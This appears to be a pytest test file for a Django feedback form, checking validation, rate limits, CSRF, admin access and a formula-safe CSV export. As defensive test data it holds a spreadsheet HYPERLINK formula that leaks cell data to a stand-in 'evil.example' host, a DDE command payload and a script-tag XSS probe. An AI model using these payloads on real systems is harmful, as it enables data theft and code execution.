"""The feedback form on /help: sent, refused with a clear message, limited, and read by admins."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from tests.helpers import sign_in_password, sign_in_with_code, text
from vahva.audit.models import AuditEvent
from vahva.feedback.models import Feedback
from vahva.feedback.service import client_key

pytestmark = pytest.mark.django_db

SEND = "/help/feedback/"
NOTE = "Contact details are used only if we need to ask you more about your feedback."
SCOPE = "Send only feedback about signing in here; for other IT problems contact the helpdesk."


def _post(client: Client, ip: str = "198.51.100.7", **fields: str) -> Any:
    data = {
        "feedback-message": "The code step was confusing.",
        **{f"feedback-{k}": v for k, v in fields.items()},
    }
    return client.post(SEND, data, REMOTE_ADDR=ip)


def test_help_page_has_the_form_with_its_notes(client: Client) -> None:
    page = text(client.get("/help/"))
    assert '<h2 id="feedback">Feedback</h2>' in page
    assert 'action="/help/feedback/"' in page
    assert NOTE in page
    assert SCOPE in page
    assert "Your name (optional)" in page
    assert "E-mail address or phone number (optional)" in page
    # The form comes before the Contact section.
    assert page.index('id="feedback"') < page.index('id="contact"')


def test_anonymous_feedback_is_saved_without_the_address(client: Client, clock: Any) -> None:
    response = _post(client, name="Bea", contact="bea@example.org")
    assert response.status_code == 302
    assert response["Location"] == "/help/feedback/thanks/"
    thanks = client.get(response["Location"])
    assert "Thank you for your feedback." in text(thanks)
    saved = Feedback.objects.get()
    assert (saved.message, saved.name, saved.contact) == (
        "The code step was confusing.",
        "Bea",
        "bea@example.org",
    )
    assert saved.person is None
    assert saved.created_at == clock()
    # Only a keyed hash of the address is kept.
    assert saved.client == client_key("198.51.100.7")
    assert "198.51.100.7" not in saved.client
    assert "198.51" not in str(Feedback.objects.values().get())


def test_signed_in_feedback_links_the_person(client: Client, alice: Any, clock: Any) -> None:
    sign_in_password(client)
    assert _post(client).status_code == 302
    assert Feedback.objects.get().person == alice


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"message": ""}, "Write your feedback first."),
        ({"message": "   "}, "Write your feedback first."),
        (
            {"message": "x" * 2001},
            "Feedback can be at most 2000 characters long (it has 2001).",
        ),
        ({"contact": "not an address"}, "Enter an e-mail address or a phone number"),
        ({"contact": "bea@"}, "Enter an e-mail address like name@example.org"),
        ({"contact": "12"}, "Enter an e-mail address or a phone number"),
        ({"name": "n" * 151}, "A name can be at most 150 characters long."),
        ({"message": "nul\x00byte"}, "The request contains a NUL character"),
    ],
)
def test_bad_input_is_refused_with_a_message(
    client: Client, clock: Any, fields: dict[str, str], message: str
) -> None:
    response = _post(client, **fields)
    assert response.status_code == 400
    assert message in text(response)
    assert not Feedback.objects.exists()


@pytest.mark.parametrize("contact", ["+358 40 123 4567", "040-1234567", "bea@example.org", ""])
def test_contact_may_be_a_phone_or_an_email_or_nothing(
    client: Client, clock: Any, contact: str
) -> None:
    assert _post(client, contact=contact).status_code == 302
    assert Feedback.objects.get().contact == contact


def test_the_robot_field_saves_nothing_but_looks_the_same(client: Client, clock: Any) -> None:
    response = _post(client, website="http://spam.example")
    assert response.status_code == 302
    assert response["Location"] == "/help/feedback/thanks/"
    assert not Feedback.objects.exists()


def test_too_much_feedback_from_one_address_is_refused(
    client: Client, clock: Any, settings: Any
) -> None:
    settings.VAHVA = {**settings.VAHVA, "FEEDBACK_PER_HOUR": 2}
    assert _post(client).status_code == 302
    clock.advance(60)
    assert _post(client).status_code == 302
    refused = _post(client)
    assert refused.status_code == 429
    body = text(refused)
    assert "You have sent a lot of feedback in the last hour. Try again in 59 minutes." in body
    assert refused["Retry-After"] == str(3600 - 60)
    assert Feedback.objects.count() == 2
    # Another address is not affected.
    assert _post(client, ip="203.0.113.9").status_code == 302
    # When the first message is an hour old, there is room for one more.
    clock.advance(3600 - 60 + 1)
    assert _post(client).status_code == 302
    assert _post(client).status_code == 429


def test_one_ipv6_network_shares_one_limit(client: Client, clock: Any, settings: Any) -> None:
    settings.VAHVA = {**settings.VAHVA, "FEEDBACK_PER_HOUR": 1}
    assert _post(client, ip="2001:db8:1:2::1").status_code == 302
    assert _post(client, ip="2001:db8:1:2:ffff::9").status_code == 429
    assert _post(client, ip="2001:db8:1:3::1").status_code == 302


def test_feedback_page_of_its_own_and_methods(client: Client) -> None:
    page = client.get(SEND)
    assert page.status_code == 200
    assert "Your feedback" in text(page)
    assert client.put(SEND).status_code == 405
    assert client.post("/help/feedback/thanks/").status_code == 405


def test_the_post_needs_a_csrf_token(clock: Any) -> None:
    strict = Client(enforce_csrf_checks=True)
    response = strict.post(SEND, {"feedback-message": "hello"})
    assert response.status_code == 403
    assert not Feedback.objects.exists()


# --- the admin list --------------------------------------------------------------------------


@pytest.fixture
def admin_client(client: Client, make_user: Any, clock: Any) -> Client:
    admin = make_user("admin@example.org", is_staff=True, is_superuser=True)
    sign_in_with_code(client, admin, clock)
    return client


def _feedback(message: str, **extra: Any) -> Feedback:
    from vahva import clock as vahva_clock

    return Feedback.objects.create(
        created_at=vahva_clock.now(), message=message, client=client_key("192.0.2.1"), **extra
    )


def test_admin_lists_and_searches_feedback(admin_client: Client) -> None:
    _feedback("Push never arrived", contact="bea@example.org")
    _feedback("Codes are fine")
    listing = text(admin_client.get("/admin/feedback/feedback/"))
    assert "Push never arrived" in listing
    assert "Codes are fine" in listing
    found = text(admin_client.get("/admin/feedback/feedback/?q=push"))
    assert "Push never arrived" in found
    assert "Codes are fine" not in found
    # Read only: nobody adds or edits feedback.
    assert admin_client.get("/admin/feedback/feedback/add/").status_code == 403


def test_admin_exports_csv_safe_from_formulas(admin_client: Client, alice: Any) -> None:
    first = _feedback('=HYPERLINK("http://evil.example/?"&A1)', name="+Eve", contact="@eve")
    second = _feedback("Works well, thanks", person=alice, name="Alice")
    response = admin_client.post(
        "/admin/feedback/feedback/",
        {"action": "export_csv", "_selected_action": [first.pk, second.pk]},
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="feedback-')
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == ["sent", "message", "name", "contact", "signed in as"]
    by_message = {row[1]: row for row in rows[1:]}
    assert by_message['\'=HYPERLINK("http://evil.example/?"&A1)'][2:4] == ["'+Eve", "'@eve"]
    assert by_message["Works well, thanks"][2:] == ["Alice", "", "alice@example.org"]
    event = AuditEvent.objects.get(action="feedback.export")
    assert event.data == {"count": 2}
    assert event.actor is not None
    assert event.actor.email == "admin@example.org"


def test_people_without_admin_rights_do_not_see_feedback(
    client: Client, alice: Any, clock: Any
) -> None:
    _feedback("private")
    sign_in_password(client)
    response = client.get("/admin/feedback/feedback/")
    assert response.status_code in (302, 403)
    assert "private" not in text(response)


# --- random input ----------------------------------------------------------------------------

junk = st.one_of(
    st.text(max_size=300),
    st.binary(max_size=100).map(lambda b: b.decode("latin-1")),
    st.sampled_from(
        ["\x00", "=cmd|' /C calc'!A0", "<script>alert(1)</script>", "9" * 5000, "١٢٣٤٥"]
    ),
)


@hypothesis_settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(message=junk, name=junk, contact=junk)
def test_random_input_is_saved_whole_or_refused(
    client: Client, clock: Any, message: str, name: str, contact: str
) -> None:
    Feedback.objects.all().delete()
    response = client.post(
        SEND,
        {"feedback-message": message, "feedback-name": name, "feedback-contact": contact},
        REMOTE_ADDR="192.0.2.50",
    )
    assert response.status_code in (302, 400, 429)
    if response.status_code == 302:
        saved = Feedback.objects.get()
        assert saved.message == message.strip()
        assert saved.name == name.strip()
    else:
        assert not Feedback.objects.exists()
    clock.advance(3600)  # each example starts with the hour's limit unused
